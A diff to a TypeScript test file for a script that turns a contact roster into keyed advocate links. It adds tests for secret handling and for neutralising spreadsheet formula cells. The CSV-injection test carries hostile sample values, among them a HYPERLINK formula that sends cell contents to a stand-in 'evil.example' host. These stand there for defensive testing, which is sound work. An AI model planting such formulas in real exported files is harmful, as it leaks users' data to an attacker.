@@ -1,17 +1,27 @@
 import { execFileSync, spawnSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../src/share/csv.ts';
-import { deriveAdvocateCode } from '../../src/share/advocate-code.ts';
+import { deriveAdvocateCode } from '../../src/share/keyed-code.ts';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
 const fixtures = fileURLToPath(new URL('./fixtures/', import.meta.url));
+/** Made for this run and written nowhere, as a program team's secret is. */
+const SECRET = randomBytes(33).toString('base64');
 
 /** Runs `npm run links -- …` the way a comms editor would, against the fixture content folder. */
 function links(...args: string[]) {
+  return linksWith({ HUB_CODE_SECRET: SECRET }, ...args);
+}
+
+function linksWith(env: Record<string, string | undefined>, ...args: string[]) {
   const result = spawnSync(process.execPath, ['scripts/links.ts', ...args], {
     cwd: root,
-    env: { ...process.env, HUB_CONTENT_DIR: `${fixtures}content` },
+    env: { ...process.env, HUB_CONTENT_DIR: `${fixtures}content`, HUB_CODE_SECRET: undefined, ...env },
     encoding: 'utf8',
   });
   const parsed = parseCsv(result.stdout);
@@ -23,7 +33,7 @@ describe('npm run links', () => {
     const { status, rows, stderr } = links(`${fixtures}roster-good.csv`);
     expect(stderr).toBe('');
     expect(status).toBe(0);
-    const ana = await deriveAdvocateCode('ana@tidewater-cycles.example', 'tidewater-demo-salt-2026', 10);
+    const ana = await deriveAdvocateCode('ana@tidewater-cycles.example', SECRET, 10);
     expect(rows).toEqual([
       ['email', 'code', 'hub_link', 'name'],
       ['ana@tidewater-cycles.example', ana, `https://hub.tidewater-cycles.example/advocacy/?advocate=${ana}`, 'Ana Lim'],
@@ -88,6 +98,83 @@ describe('npm run links', () => {
     expect(links(`${fixtures}roster-without-email-column.csv`)).toMatchObject({ status: 2, stderr: expect.stringContaining('roster-without-email-column.csv:1:') });
     expect(links(`${fixtures}no-such-roster.csv`)).toMatchObject({ status: 2, stderr: expect.stringContaining('Cannot find the roster file') });
     expect(links()).toMatchObject({ status: 2, stderr: expect.stringContaining('Usage: npm run links') });
+  });
+
+  it('gives the same codes for the same roster and secret, and other codes for another secret', () => {
+    const codes = (secret: string) => linksWith({ HUB_CODE_SECRET: secret }, `${fixtures}roster-good.csv`).rows.slice(1).map((row) => row[1]);
+    const first = codes(SECRET);
+    expect(first).toHaveLength(2);
+    expect(codes(SECRET)).toEqual(first);
+    const other = codes(randomBytes(33).toString('base64'));
+    expect(other).toHaveLength(2);
+    expect(other.filter((code) => first.includes(code))).toEqual([]);
+  });
+
+  it('stops with exit code 2 and says how to create and keep a secret when HUB_CODE_SECRET is missing', () => {
+    const { status, stderr, rows } = linksWith({}, `${fixtures}roster-good.csv`);
+    expect(status).toBe(2);
+    expect(rows).toEqual([]);
+    expect(stderr).toMatch(/^HUB_CODE_SECRET is not set\./);
+    expect(stderr).toContain('openssl rand -base64 48');
+    expect(stderr).toContain('password manager');
+    expect(stderr).toContain('secret of your CI');
+    expect(stderr).not.toMatch(/\bat .+:\d+:\d+\)?$/m);
+  });
+
+  it('refuses a secret shorter than 32 characters', () => {
+    const { status, stderr } = linksWith({ HUB_CODE_SECRET: 'a'.repeat(31) }, `${fixtures}roster-good.csv`);
+    expect(status).toBe(2);
+    expect(stderr).toMatch(/^HUB_CODE_SECRET is 31 characters long; it must have at least 32/);
+  });
+
+  it('needs no secret for a roster of codes', () => {
+    expect(linksWith({}, `${fixtures}roster-codes-only.csv`).rows[1]?.[1]).toBe('team-kl-01');
+  });
+
+  it('refuses to run when the secret is written in a file of the repository, and names the file but not the secret', () => {
+    const repo = mkdtempSync(join(tmpdir(), 'hub-links-secret-'));
+    try {
+      const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, stdio: 'ignore' });
+      git('init', '-q');
+      cpSync(`${fixtures}content`, join(repo, 'content'), { recursive: true });
+      writeFileSync(join(repo, '.gitignore'), '.env\n');
+      // In an ignored file, where it belongs on the team's machine: fine.
+      writeFileSync(join(repo, '.env'), `HUB_CODE_SECRET=${SECRET}\n`);
+      git('add', '.');
+      const run = () =>
+        spawnSync(process.execPath, ['scripts/links.ts', `${fixtures}roster-good.csv`], {
+          cwd: root,
+          env: { ...process.env, HUB_CONTENT_DIR: join(repo, 'content'), HUB_CODE_SECRET: SECRET },
+          encoding: 'utf8',
+        });
+      expect(run().status).toBe(0);
+
+      writeFileSync(join(repo, 'content', 'notes.md'), `The code secret is ${SECRET}, keep it safe.\n`);
+      git('add', 'content/notes.md');
+      const refused = run();
+      expect(refused.status).toBe(2);
+      expect(refused.stdout).toBe('');
+      expect(refused.stderr).toMatch(/^HUB_CODE_SECRET is written in a file of the repository.*\n  content\/notes\.md\n/);
+      expect(refused.stderr).toContain('create a new one');
+      expect(refused.stderr).not.toContain(SECRET);
+    } finally {
+      rmSync(repo, { recursive: true, force: true });
+    }
+  });
+
+  it('writes cells a spreadsheet would run as formulas as text (OWASP CSV injection)', () => {
+    const { status, rows } = links(`${fixtures}roster-with-formulas.csv`);
+    expect(status).toBe(0);
+    expect(rows.slice(1).map((row) => row[3])).toEqual([
+      "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+      "'+1+2",
+      "'-2+3",
+      "'@SUM(A1:A9)",
+      'Ana Lim',
+      'Rossi - Marco',
+    ]);
+    expect(rows[1]?.[0]).toBe("'=1+2@evil.example");
+    expect(rows.slice(2).every((row) => !/^[=+\-@\t\r]/.test(row[0] ?? ''))).toBe(true);
   });
 
   it('is what `npm run links` runs', () => {
